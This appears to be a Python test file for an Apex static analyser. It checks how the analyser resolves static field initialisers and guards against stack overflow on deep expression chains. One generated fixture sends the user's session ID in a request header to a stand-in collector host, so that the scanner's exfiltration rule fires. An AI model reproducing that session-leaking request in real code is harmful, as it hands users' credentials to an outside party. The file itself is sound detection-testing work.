"""A static field's initialiser runs before any method reads the field, whatever order the data
flow meets them in: a URL built from it is the org's, not "unknown" (NebulaLogger's RestApiSaver)."""

from __future__ import annotations

from pathlib import Path

from apexlint.engine import ScanOptions, scan
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package

REPO = Path(__file__).resolve().parents[1]
SAVER = REPO / "fixtures" / "clean-sfdx" / "force-app" / "main" / "default" / "classes" / "LogSaver.cls"


def test_a_url_read_from_a_static_final_field_is_the_orgs(tmp_path: Path) -> None:
    # alone in its package, the inner class's field initialiser is met before the outer class's
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/LogSaver.cls": SAVER.read_bytes()})
    for exhaustive in (False, True):
        result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1, exhaustive=exhaustive))
        assert [(f.rule_id, f.location.span.start_line) for f in result.findings] == [("SID010", 28)]


def _chain(count: int, depth: int) -> dict[str, bytes]:
    """Classes whose static field each reads the next's, through `depth` nested calls."""
    files = {}
    for i in range(count):
        expr = f"C{i + 1}.f" if i + 1 < count else "'https://collector.example.com'"
        for _ in range(depth):
            expr = f"C{i}.h({expr})"
        body = (f"public class C{i} {{\n    public static String f = {expr};\n"
                "    static String h(String s) { return s; }\n")
        if i == 0:
            body += ("    public static void go() {\n        HttpRequest r = new HttpRequest();\n"
                     "        r.setEndpoint(f);\n        r.setHeader('X', UserInfo.getSessionId());\n"
                     "        new Http().send(r);\n    }\n")
        files[f"{SFDX_SOURCE}/classes/C{i}.cls"] = (body + "}\n").encode()
    return files


def test_initialisers_analysed_ahead_inside_deep_expressions_never_exhaust_the_stack(tmp_path: Path) -> None:
    # each reader is deep in a nested expression when it meets the next field: analysing that
    # field's initialiser there, again and again, went past Python's stack (a RecursionError)
    write_sfdx_package(tmp_path, _chain(12, 70))
    for exhaustive in (False, True):
        result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1, exhaustive=exhaustive))
        assert [(f.rule_id, dict(f.properties).get("endpoint")) for f in result.findings] == [
            ("SID002", "https://collector.example.com")]
